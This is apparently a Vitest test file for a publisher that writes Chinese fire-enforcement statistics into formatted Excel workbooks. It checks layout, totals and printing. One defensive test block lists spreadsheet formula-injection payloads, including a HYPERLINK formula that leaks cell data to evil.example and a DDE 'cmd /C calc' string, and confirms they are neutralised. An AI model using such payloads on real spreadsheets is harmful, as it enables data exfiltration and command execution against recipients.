import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import yauzl from 'yauzl';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UnitRegistry } from '../../domain/units.js';
import { buildDocuments } from '../../dashboards/build.js';
import { dispatchDocumentSchema, type DispatchDocument, type QuarterDocument } from '../../dashboards/data/documents.js';
import type { DocumentSet, OutputFile } from '../../dashboards/publisher.js';
import { displayWidth, safeText } from '../../domain/cell-text.js';
import { XlsxPublisher } from '../../dashboards/xlsx/xlsx-publisher.js';
import { ingest } from '../../pipelines/ingest/ingest.js';
import { FolderInbox } from '../../sources/inbox/folder-inbox.js';
import { writeSampleInbox } from '../../sources/sample/index.js';
import { Warehouse } from '../../warehouse/warehouse.js';

const generatedAt = '2025-01-20T02:00:00.000Z';
const asOf = '2025-01-20';

let dir: string;
let docs: DocumentSet;
let files: readonly OutputFile[];
const timings = { sample: 0, publish: 0 };

/** The sample year through the real pipeline, once: sample inbox → ingest → documents → workbooks. */
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'firestat-xlsx-'));
  let t = performance.now();
  const inbox = join(dir, 'inbox');
  await writeSampleInbox({ outDir: inbox, year: 2024, seed: 1 });
  const warehouse = await Warehouse.open({ path: join(dir, 'w.duckdb') });
  try {
    await ingest({
      source: new FolderInbox(inbox),
      warehouse,
      registry: UnitRegistry.sample(),
      reportsDir: join(dir, 'reports'),
      clock: () => new Date('2025-01-20T02:00:00Z'),
    });
    docs = await buildDocuments({ warehouse, year: 2024, generatedAt, asOf });
  } finally {
    await warehouse.close();
  }
  timings.sample = performance.now() - t;
  t = performance.now();
  files = await new XlsxPublisher().publish(docs);
  timings.publish = performance.now() - t;
  console.log(
    `xlsx: sample year to documents in ${(timings.sample / 1000).toFixed(1)} s; ${files.length} workbooks in ${(timings.publish / 1000).toFixed(1)} s`,
  );
});

afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

function file(path: string): OutputFile {
  const f = files.find((x) => x.path === path);
  if (!f) throw new Error(`no ${path} among ${files.map((x) => x.path).join(', ')}`);
  return f;
}

async function open(content: string | Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  // exceljs's typings predate Node's generic Buffer.
  await wb.xlsx.load(Buffer.from(content) as unknown as Parameters<typeof wb.xlsx.load>[0]);
  return wb;
}

function sheet(wb: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
  const ws = wb.getWorksheet(name);
  if (!ws) throw new Error(`no sheet ${name} among ${wb.worksheets.map((w) => w.name).join(', ')}`);
  return ws;
}

/** Header text as a person reads it (line breaks inside the cell removed). */
const flat = (v: unknown) => (typeof v === 'string' ? v.replace(/\n/g, '') : v);

/** Row number of the first row whose column `col` holds `text`. */
function rowOf(ws: ExcelJS.Worksheet, col: number, text: string): number {
  for (let r = 1; r <= ws.rowCount; r++) if (ws.getCell(r, col).value === text) return r;
  throw new Error(`no row with ${text} in column ${col} of ${ws.name}`);
}

/** Column number (1-based) of the header `text` in `row`. */
function colOf(ws: ExcelJS.Worksheet, row: number, text: string): number {
  for (let c = 1; c <= ws.columnCount; c++) if (flat(ws.getCell(row, c).value) === text) return c;
  throw new Error(`no header ${text} in row ${row} of ${ws.name}`);
}

const merges = (ws: ExcelJS.Worksheet): string[] => (ws.model as unknown as { merges: string[] }).merges;

function noteText(cell: ExcelJS.Cell): string {
  const n = cell.note as unknown;
  if (typeof n === 'string') return n;
  if (n && typeof n === 'object' && 'texts' in n) return (n as { texts: { text: string }[] }).texts.map((t) => t.text).join('');
  return '';
}

const fillOf = (cell: ExcelJS.Cell): string | undefined => (cell.fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;

/** Every member of an xlsx (zip) with its bytes. */
async function members(content: string | Uint8Array): Promise<Map<string, Buffer>> {
  const zip = await new Promise<yauzl.ZipFile>((ok, fail) => yauzl.fromBuffer(Buffer.from(content), { lazyEntries: true }, (e, z) => (e ? fail(e) : ok(z))));
  const out = new Map<string, Buffer>();
  await new Promise<void>((ok, fail) => {
    zip.on('entry', (entry: yauzl.Entry) => {
      zip.openReadStream(entry, (e, stream) => {
        if (e) return fail(e);
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c));
        stream.on('end', () => {
          out.set(entry.fileName, Buffer.concat(chunks));
          zip.readEntry();
        });
        stream.on('error', fail);
      });
    });
    zip.on('end', () => ok());
    zip.on('error', fail);
    zip.readEntry();
  });
  return out;
}

async function contentHash(content: string | Uint8Array): Promise<string> {
  const m = await members(content);
  const lines = [...m.entries()].map(([name, bytes]) => `${name}:${createHash('sha256').update(bytes).digest('hex')}`).sort();
  return createHash('sha256').update(lines.join('\n')).digest('hex');
}

function quarterDoc(q: number): QuarterDocument {
  const d = docs.quarters.find((x) => x.quarter === q);
  if (!d) throw new Error(`no quarter ${q}`);
  return d;
}

describe('safeText', () => {
  it('prefixes an apostrophe to text a spreadsheet could read as a formula', () => {
    expect(safeText('=HYPERLINK("http://x","y")')).toBe(`'=HYPERLINK("http://x","y")`);
    expect(safeText('+1')).toBe("'+1");
    expect(safeText('-2+3')).toBe("'-2+3");
    expect(safeText('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(safeText('\t=1')).toBe("'\t=1");
    expect(safeText('\r=1')).toBe("'\n=1");
    expect(safeText('  =1+1')).toBe("'  =1+1");
    expect(safeText('＝1+1')).toBe("'＝1+1");
    expect(safeText('\u0001=1+1')).toBe("'=1+1");
  });

  it('leaves ordinary text alone', () => {
    for (const s of ['龙兴镇', '2024Q1/龙兴镇/龙兴-2024Q1-执法统计.xlsx', '合计行 C7 单元格为 169，相差 -3', '', 'a=b', '1+1']) expect(safeText(s)).toBe(s);
  });

  it('drops characters XML cannot carry and keeps within Excel’s cell limit', () => {
    expect(safeText('a\u0000b\u0007c\td\r\ne')).toBe('abc\td\ne');
    expect(safeText('字'.repeat(40000)).length).toBe(32767);
  });
});

describe('XlsxPublisher on the sample year', () => {
  it('writes the workbooks of every quarter and the year, nothing to disk', () => {
    expect(files.map((f) => f.path).sort()).toEqual(
      [
        ...[1, 2, 3, 4].flatMap((q) => [`xlsx/汇总表-2024-Q${q}.xlsx`, `xlsx/调度表-2024-Q${q}.xlsx`, `xlsx/通报-2024-Q${q}.xlsx`]),
        'xlsx/年度汇总-2024.xlsx',
      ].sort(),
    );
    for (const f of files) {
      expect(f.content).toBeInstanceOf(Uint8Array);
      expect(Buffer.from(f.content).subarray(0, 2).toString()).toBe('PK');
    }
  });

  it('lays out the quarter 汇总表 like the bureau’s printed table', async () => {
    const doc = quarterDoc(1);
    const wb = await open(file('xlsx/汇总表-2024-Q1.xlsx').content);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['第一季度', '年初至今', '局本级', '数据来源']);
    expect(wb.created.toISOString()).toBe(generatedAt);
    const ws = sheet(wb, '第一季度');
    // The table holds the 局本级 row, so it is not titled 镇街…汇总表.
    expect(ws.getCell('A1').value).toBe('渝北区2024年第一季度镇街及局本级消防执法工作汇总表');
    const subtitle = String(ws.getCell('A2').value);
    expect(subtitle).toContain('统计期间：2024年第一季度');
    expect(subtitle).toContain('数据截至：2025-01-20');
    expect(subtitle).toContain('生成时间：2025-01-20 10:00');

    const headers = Array.from({ length: ws.columnCount }, (_, i) => flat(ws.getCell(4, i + 1).value));
    // The bureau's 消防监督检查（份）beside 检查社会单位数（家）, never added to it; its 行政处罚（件）
    // after the case groups — units as the B1 form declares them, as on the pages.
    expect(headers).toEqual([
      '序号',
      '单位',
      '检查社会单位数（家）',
      '局本级消防监督检查（份）',
      '发现火灾隐患数（处）',
      '整改火灾隐患数（处）',
      '整改率',
      '一般程序（起）',
      '简易程序（起）',
      '一般程序（起）',
      '简易程序（起）',
      '局本级行政处罚（件）',
      '联合执法检查（次）',
      '消防管理岗人员（名）',
    ]);
    expect(ws.getCell('H3').value).toBe('赋权执法案件');
    expect(ws.getCell('J3').value).toBe('委托执法案件');
    const m = merges(ws);
    for (const range of ['A1:N1', 'A2:N2', 'H3:I3', 'J3:K3', 'A3:A4', 'B3:B4', 'C3:C4', 'G3:G4', 'L3:L4', 'N3:N4']) expect(m).toContain(range);
    expect(ws.getCell('H3').alignment).toMatchObject({ horizontal: 'center', wrapText: true });
    expect(ws.getCell('H4').border?.top?.style).toBe('thin');

    // Rows: 22 townships numbered 1–22, then 镇街合计, 局本级, 全区合计 (totals bold).
    expect(ws.getCell('B5').value).toBe('龙溪街道');
    expect(ws.getCell('A5').value).toBe(1);
    expect(ws.getCell('A26').value).toBe(22);
    expect([27, 28, 29].map((r) => ws.getCell(r, 2).value)).toEqual(['镇街合计', '局本级', '全区合计']);
    expect(ws.getCell('B29').font?.bold).toBe(true);
    expect(ws.getCell('C27').font?.bold).toBe(true);
    expect(ws.getCell('C28').font?.bold).toBeFalsy();

    // 全区合计 carries the document's numbers, 整改率 as a percentage (exact value, 0.0% format),
    // the bureau's own figures from the bureau.
    const district = doc.rows.find((r) => r.kind === 'district_total')!;
    const r = rowOf(ws, 2, '全区合计');
    const columnOf: Record<string, number> = {
      units_inspected: 3,
      bureau_inspections: 4,
      hazards_found: 5,
      hazards_rectified: 6,
      empowered_general_cases: 8,
      empowered_simple_cases: 9,
      entrusted_general_cases: 10,
      entrusted_simple_cases: 11,
      bureau_penalties: 12,
      joint_inspections: 13,
      fire_staff: 14,
    };
    expect([...doc.columns, ...doc.bureauOnlyColumns].map((c) => c.metric).sort()).toEqual(Object.keys(columnOf).sort());
    for (const [metric, col] of Object.entries(columnOf)) expect(ws.getCell(r, col).value, metric).toBe(district.quarter[metric]);
    const towns = doc.rows.find((x) => x.kind === 'township_total')!;
    const bureauRow = doc.rows.find((x) => x.kind === 'bureau')!;
    // 家 and 份 are not added: 全区合计 检查社会单位数 is the townships'.
    expect(ws.getCell(r, 3).value).toBe(towns.quarter['units_inspected']);
    expect(ws.getCell(r, 5).value).toBe(towns.quarter['hazards_found']! + bureauRow.quarter['hazards_found']!);
    expect(ws.getCell(r, 7).value).toBe(district.rectificationRate);
    expect(ws.getCell(r, 7).numFmt).toBe('0.0%');
    const b = rowOf(ws, 2, '局本级');
    expect(ws.getCell(b, 12).value).toBe(bureauRow.quarter['bureau_penalties']);
    expect(ws.getCell(b, 4).value).toBe(bureauRow.quarter['bureau_inspections']);
    // "—", not 0, where a row has no figure: the bureau under township-only columns, townships under the bureau's.
    for (const col of [3, 8, 9, 10, 11, 13, 14]) expect(ws.getCell(b, col).value, `局本级 column ${col}`).toBe('—');
    expect(ws.getCell(rowOf(ws, 2, '龙兴镇'), 12).value).toBe('—');
    expect(ws.getCell(rowOf(ws, 2, '龙兴镇'), 4).value).toBe('—');
    expect(ws.getCell(rowOf(ws, 2, '龙兴镇'), 7).numFmt).toBe('0.0%');

    // Frozen header and first two columns; widths fit Chinese names.
    expect(ws.views[0]).toMatchObject({ state: 'frozen', xSplit: 2, ySplit: 4 });
    const longest = Math.max(...doc.rows.map((x) => displayWidth(x.unit)));
    expect(ws.getColumn(2).width).toBeGreaterThanOrEqual(longest);

    // Printing: A4 landscape, one page wide, headers on every page, page numbers.
    expect(ws.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: '3:4' });
    expect(ws.headerFooter.oddFooter).toContain('&P');
    expect(ws.headerFooter.oddFooter).toContain('&N');
  });

  it('puts the year-to-date figures on 年初至今 and the bureau units on 局本级', async () => {
    const doc = quarterDoc(2);
    const wb = await open(file('xlsx/汇总表-2024-Q2.xlsx').content);
    const ytd = sheet(wb, '年初至今');
    expect(ytd.getCell('A1').value).toBe('渝北区2024年1-6月镇街及局本级消防执法工作累计汇总表');
    const district = doc.rows.find((r) => r.kind === 'district_total')!;
    const r = rowOf(ytd, 2, '全区合计');
    expect(ytd.getCell(r, colOf(ytd, 4, '检查社会单位数（家）')).value).toBe(district.yearToDate['units_inspected']);
    expect(ytd.getCell(r, colOf(ytd, 4, '整改率')).value).toBe(district.yearToDateRectificationRate);
    expect(district.yearToDate['units_inspected']).not.toBe(district.quarter['units_inspected']);

    const bureau = sheet(wb, '局本级');
    const fire = colOf(bureau, 3, '火灾调查');
    expect([0, 1, 2].map((i) => flat(bureau.getCell(4, fire + i).value))).toEqual(['一般程序（件）', '简易程序（件）', '轻微火灾（件）']);
    expect(merges(bureau)).toContain(`${bureau.getCell(3, fire).address}:${bureau.getCell(3, fire + 2).address}`);
    const unit = doc.bureauRows[0]!;
    const ur = rowOf(bureau, 2, unit.unit);
    expect(bureau.getCell(ur, 3).value).toBe('本季度');
    expect(bureau.getCell(ur + 1, 3).value).toBe('年初至今');
    expect(merges(bureau)).toContain(`B${ur}:B${ur + 1}`);
    const col = colOf(bureau, 3, '消防监督检查（份）');
    expect(bureau.getCell(ur, col).value).toBe(unit.quarter['inspections']);
    expect(bureau.getCell(ur + 1, col).value).toBe(unit.yearToDate['inspections']);
    const total = rowOf(bureau, 2, '合计');
    expect(bureau.getCell(total, colOf(bureau, 3, '行政处罚（件）')).value).toBe(doc.rows.find((x) => x.kind === 'bureau')!.quarter['bureau_penalties']);

    const sources = sheet(wb, '数据来源');
    expect(sources.getCell(4, 5).value).toBe(doc.sources[0]!.path);
  });

  it('adds up in the 年度汇总 to the figures of the 2024 report', async () => {
    const wb = await open(file('xlsx/年度汇总-2024.xlsx').content);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['全年', '分季度', '局本级']);
    const ws = sheet(wb, '全年');
    expect(ws.getCell('A1').value).toBe('渝北区2024年度镇街及局本级消防执法工作汇总表');
    const t = rowOf(ws, 2, '镇街合计');
    const at = (header: string, col = colOf(ws, 4, header)) => ws.getCell(t, col).value;
    expect(at('检查社会单位数（家）')).toBe(7982);
    expect(at('发现火灾隐患数（处）')).toBe(9829);
    expect(at('整改火灾隐患数（处）')).toBe(9062);
    expect([8, 9, 10, 11].map((c) => ws.getCell(t, c).value)).toEqual([80, 200, 50, 20]);
    expect(at('消防管理岗人员（名）')).toBe(34);
    expect(ws.getCell(rowOf(ws, 2, '全区合计'), colOf(ws, 4, '局本级行政处罚（件）')).value).toBe(521);
    const bureau = sheet(wb, '局本级');
    const bt = rowOf(bureau, 2, '合计');
    expect(bureau.getCell(bt, colOf(bureau, 3, '出动执法人员（人次）')).value).toBe(9858);
    expect(bureau.getCell(bt, colOf(bureau, 3, '行政处罚（件）')).value).toBe(521);
    expect(bureau.getCell(bt, colOf(bureau, 3, '宣传教育（人次）')).value).toBe(100000);
    const byQuarter = sheet(wb, '分季度');
    expect([5, 6, 7, 8].map((r) => byQuarter.getCell(r, 2).value)).toEqual(['第一季度', '第二季度', '第三季度', '第四季度']);
    expect(byQuarter.getCell(9, 2).value).toBe('全年');
    expect(byQuarter.getCell(9, colOf(byQuarter, 4, '局本级行政处罚（件）')).value).toBe(521);
  });

  it('shows who sent what in the 调度表, with status text, colours and the reasons', async () => {
    const doc = docs.dispatch.find((d) => d.quarter === 1)!;
    const wb = await open(file('xlsx/调度表-2024-Q1.xlsx').content);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['报送情况', '未整改隐患', '数据问题', '已核实问题']);
    const ws = sheet(wb, '报送情况');
    expect(ws.getCell('A1').value).toBe('渝北区2024年第一季度报表报送情况调度表');
    // B1 has one column per month under its form's name.
    const b1 = colOf(ws, 3, '局本级执法工作月报（B1）');
    expect([0, 1, 2].map((i) => ws.getCell(4, b1 + i).value)).toEqual(['1月', '2月', '3月']);
    expect(merges(ws)).toContain(`${ws.getCell(3, b1).address}:${ws.getCell(3, b1 + 2).address}`);
    const late = doc.matrix.find((e) => e.status === 'late' && e.form === 'B1' && e.month === 1)!;
    const lateCell = ws.getCell(rowOf(ws, 2, late.unit), b1);
    expect(lateCell.value).toBe('逾期');
    expect(fillOf(lateCell)).toBe('FFFFEB9C');
    expect(noteText(lateCell)).toContain(`截止日期 ${late.dueDate}`);
    expect(noteText(lateCell)).toContain(`报送时间：${late.receivedAt}`);
    const remark = ws.getCell(rowOf(ws, 2, late.unit), colOf(ws, 3, '备注')).value;
    expect(remark).toContain('B1 1月逾期');
    const t1 = ws.getCell(rowOf(ws, 2, '龙兴镇'), colOf(ws, 3, '镇街消防执法工作统计表（T1）'));
    expect(t1.value).toBe('按时');
    expect(fillOf(t1)).toBe('FFC6EFCE');
    expect(ws.getCell(rowOf(ws, 2, '龙兴镇'), b1).value).toBeNull();

    const hz = sheet(wb, '未整改隐患');
    const first = doc.openHazards[0]!;
    const hr = rowOf(hz, 2, first.unit);
    expect([3, 4, 5].map((c) => hz.getCell(hr, c).value)).toEqual([first.open, first.overdue, first.maxDaysOverdue]);
    const cat = Object.keys(first.byCategory)[0]!;
    expect(hz.getCell(hr, colOf(hz, 4, cat)).value).toBe(first.byCategory[cat]);
    expect(hz.getCell(3, 6).value).toBe('按隐患类别（处）');
    const total = rowOf(hz, 2, '合计');
    expect(hz.getCell(total, 3).value).toBe(doc.openHazards.reduce((a, h) => a + h.open, 0));

    const none = sheet(wb, '数据问题');
    expect(doc.findings).toHaveLength(0);
    expect(none.getCell(4, 1).value).toBe('本季度未发现数据问题');
  });

  it('lists the findings in 数据问题 with their file, sheet and cell', async () => {
    const doc = docs.dispatch.find((d) => d.quarter === 4)!;
    const ws = sheet(await open(file('xlsx/调度表-2024-Q4.xlsx').content), '数据问题');
    expect([1, 2, 3, 4, 5, 6, 7, 8, 9].map((c) => ws.getCell(3, c).value)).toEqual([
      '序号',
      '单位',
      '报表',
      '问题类型',
      '级别',
      '说明',
      '文件',
      '工作表',
      '单元格',
    ]);
    expect(doc.findings.length).toBeGreaterThan(0);
    doc.findings.forEach((f, i) => {
      const r = 4 + i;
      expect(ws.getCell(r, 2).value).toBe(f.unit);
      expect(ws.getCell(r, 4).value).toBe(f.ruleLabel);
      expect(ws.getCell(r, 6).value).toBe(f.message);
      expect(ws.getCell(r, 7).value).toBe(f.path);
      expect(ws.getCell(r, 8).value).toBe(f.sheet);
      expect(ws.getCell(r, 9).value).toBe(f.cell);
    });
    expect(ws.autoFilter).toBeTruthy();
  });

  it('ranks the townships in the 通报 and counts case-file problems', async () => {
    const doc = docs.bulletins.find((d) => d.quarter === 2)!;
    const wb = await open(file('xlsx/通报-2024-Q2.xlsx').content);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['排名', '案卷质量', '逾期未报', '附录（统计人员）']);
    const ws = sheet(wb, '排名');
    doc.rankings.forEach((rk, i) => {
      const c = 1 + i * 3;
      expect(String(ws.getCell(3, c).value)).toContain(rk.label);
      expect([c, c + 1, c + 2].map((k) => ws.getCell(4, k).value)).toEqual(['名次', '镇街', '数值']);
      const e = rk.entries[0]!;
      expect([ws.getCell(5, c).value, ws.getCell(5, c + 1).value, ws.getCell(5, c + 2).value]).toEqual([e.rank, e.unit, e.value]);
      expect(ws.getCell(5, c + 2).numFmt).toBe(rk.indicator.endsWith('_rate') ? '0.0%' : rk.indicator === 'problems_per_case' ? '0.00' : '0');
    });
    expect(merges(ws)).toContain('A3:C3');
    const q = sheet(wb, '案卷质量');
    const total = rowOf(q, 2, '合计');
    expect(q.getCell(total, 3).value).toBe(doc.caseQuality.reviewed);
    doc.caseQuality.problems.forEach((p, i) => {
      expect(flat(q.getCell(4, 4 + i).value)).toBe(p);
      expect(q.getCell(total, 4 + i).value).toBe(doc.caseQuality.totals[p]);
    });
    // Case files are counted in 份, as the 案卷评查表 declares (and the pages say).
    expect(flat(q.getCell(3, 4).value)).toBe('存在问题的案卷数（份）');
    expect(flat(q.getCell(3, 3).value)).toBe('评查案卷数（份）');
    // The 通报 is addressed to the townships: Q2's late reports were the 局本级's (the 调度's business).
    expect(doc.lateOrMissing).toEqual([]);
    expect(sheet(wb, '逾期未报').getCell(4, 1).value).toBe('本季度各单位均按时报送');
    const late = sheet(await open(file('xlsx/通报-2024-Q3.xlsx').content), '逾期未报');
    expect(late.getCell(4, 5).value).toBe('逾期');
  });

  it('sets up every sheet of every workbook for printing, and writes no formula anywhere', async () => {
    for (const f of files) {
      const wb = await open(f.content);
      for (const ws of wb.worksheets) {
        expect(ws.pageSetup, `${f.path} ${ws.name}`).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1 });
        expect(ws.pageSetup.printTitlesRow, `${f.path} ${ws.name}`).toMatch(/^3:[34]$/);
        expect(ws.views[0]?.state).toBe('frozen');
      }
      for (const [name, xml] of await members(f.content))
        if (name.startsWith('xl/worksheets/')) expect(xml.toString('utf8'), `${f.path} ${name}`).not.toMatch(/<f[ >]/);
    }
  });

  it('carries no personal data (no phone or ID numbers)', async () => {
    for (const f of files) {
      const wb = await open(f.content);
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/(?<!\d)(1[3-9]\d{9}|\d{17}[\dXx])(?!\d)/);
          }),
        ),
      );
    }
  });

  it('gives the same workbook contents for the same documents', async () => {
    const again = await new XlsxPublisher().publish(docs);
    expect(again.map((f) => f.path)).toEqual(files.map((f) => f.path));
    for (const [i, f] of again.entries()) expect(await contentHash(f.content), f.path).toBe(await contentHash(files[i]!.content));
  });
});

describe('XlsxPublisher with submitted text that looks like a formula', () => {
  const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', '+1+1', '@SUM(A1:A9)', '-2+3', "\t=cmd|' /C calc'!A0", '\r=1'];

  function poisoned(base: DispatchDocument): DispatchDocument {
    const finding = base.findings[0] ?? {
      findingId: 'x',
      rule: 't1_ledger_mismatch',
      ruleLabel: '统计表与台账不符',
      severity: 'warning' as const,
      unit: '龙兴镇',
      form: 'T1',
      message: '',
      path: null,
      sheet: null,
      cell: null,
      submissionId: null,
    };
    const statuses = ['rejected', 'missing', 'pending', 'on_time'] as const;
    let k = 0;
    return dispatchDocumentSchema.parse({
      ...base,
      matrix: base.matrix.map((e) => (e.form === 'T1' && k < statuses.length ? { ...e, status: statuses[k++], reason: attacks[0] } : e)),
      openHazards: base.openHazards.map((h, i) => (i === 0 ? { ...h, byCategory: { ...h.byCategory, '=1+1': 1 } } : h)),
      findings: attacks.map((a, i) => ({
        ...finding,
        findingId: `x${i}`,
        message: a,
        path: attacks[(i + 1) % attacks.length],
        sheet: attacks[(i + 2) % attacks.length],
        cell: attacks[(i + 3) % attacks.length],
      })),
    });
  }

  it('writes them as plain text cells with a leading apostrophe, never as formulas', async () => {
    const doc = poisoned(docs.dispatch.find((d) => d.quarter === 1)!);
    const set: DocumentSet = { ...docs, quarters: [], bulletins: [], townships: [], dispatch: [doc] };
    const out = await new XlsxPublisher().publish(set);
    expect(out.map((f) => f.path)).toEqual(['xlsx/调度表-2024-Q1.xlsx']);
    const wb = await open(out[0]!.content);
    const ws = sheet(wb, '数据问题');
    doc.findings.forEach((f, i) => {
      const r = 4 + i;
      for (const [c, text] of [
        [6, f.message],
        [7, f.path],
        [8, f.sheet],
        [9, f.cell],
      ] as const) {
        const cell = ws.getCell(r, c);
        expect(cell.type, `${cell.address} ${String(text)}`).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        expect(cell.value).toBe(safeText(text!));
        expect(String(cell.value).startsWith("'")).toBe(true);
      }
    });
    // The reasons (备注 and the cell comments) and the category header are neutralised too.
    const status = sheet(wb, '报送情况');
    const t1 = colOf(status, 3, '镇街消防执法工作统计表（T1）');
    const rejected = doc.matrix.find((e) => e.status === 'rejected')!;
    const row = rowOf(status, 2, rejected.unit);
    expect(status.getCell(row, t1).value).toBe('被退回');
    expect(fillOf(status.getCell(row, t1))).toBe('FFFFC7CE');
    expect(noteText(status.getCell(row, t1))).toContain(`原因：${attacks[0]}`);
    const remark = String(status.getCell(row, colOf(status, 3, '备注')).value);
    expect(remark.startsWith("'") || !/^[=+\-@]/.test(remark)).toBe(true);
    expect(status.getCell(rowOf(status, 2, doc.matrix.find((e) => e.status === 'missing')!.unit), t1).value).toBe('未报');
    const pending = status.getCell(rowOf(status, 2, doc.matrix.find((e) => e.status === 'pending')!.unit), t1);
    expect(pending.value).toBe('未到期');
    expect(fillOf(pending)).toBe('FFD9D9D9');
    expect(colOf(sheet(wb, '未整改隐患'), 4, "'=1+1")).toBeGreaterThan(5);
    for (const [name, xml] of await members(out[0]!.content)) if (name.startsWith('xl/worksheets/')) expect(xml.toString('utf8')).not.toMatch(/<f[ >]/);
  });
});

describe('XlsxPublisher with nothing to report', () => {
  it('still writes valid, printable workbooks saying so', async () => {
    const q = docs.quarters[0]!;
    const d = docs.dispatch[0]!;
    const b = docs.bulletins[0]!;
    const set: DocumentSet = {
      ...docs,
      quarters: [{ ...q, bureauRows: [], sources: [] }],
      dispatch: [{ ...d, matrix: [], openHazards: [], findings: [] }],
      bulletins: [{ ...b, rankings: [], caseQuality: { ...b.caseQuality, byTownship: [], reviewed: 0 }, lateOrMissing: [] }],
    };
    const out = await new XlsxPublisher({ district: '某区', bureau: '某区消防救援局' }).publish(set);
    expect(out).toHaveLength(4);
    const dispatch = await open(out.find((f) => f.path.startsWith('xlsx/调度表'))!.content);
    expect(sheet(dispatch, '报送情况').getCell('A1').value).toBe('某区2024年第一季度报表报送情况调度表');
    expect(sheet(dispatch, '未整改隐患').getCell(4, 1).value).toBe('截至统计日，各单位无未整改的火灾隐患');
    const bulletin = await open(out.find((f) => f.path.startsWith('xlsx/通报'))!.content);
    expect(sheet(bulletin, '排名').getCell(4, 1).value).toBe('本季度无排名数据');
    expect(sheet(bulletin, '案卷质量').getCell(5, 1).value).toBe('本季度无评查案卷');
    expect(sheet(bulletin, '逾期未报').getCell(4, 1).value).toBe('本季度各单位均按时报送');
    for (const ws of bulletin.worksheets) expect(ws.pageSetup.printArea, ws.name).toMatch(/^A1:[A-Z]+\d+$/);
  });
});
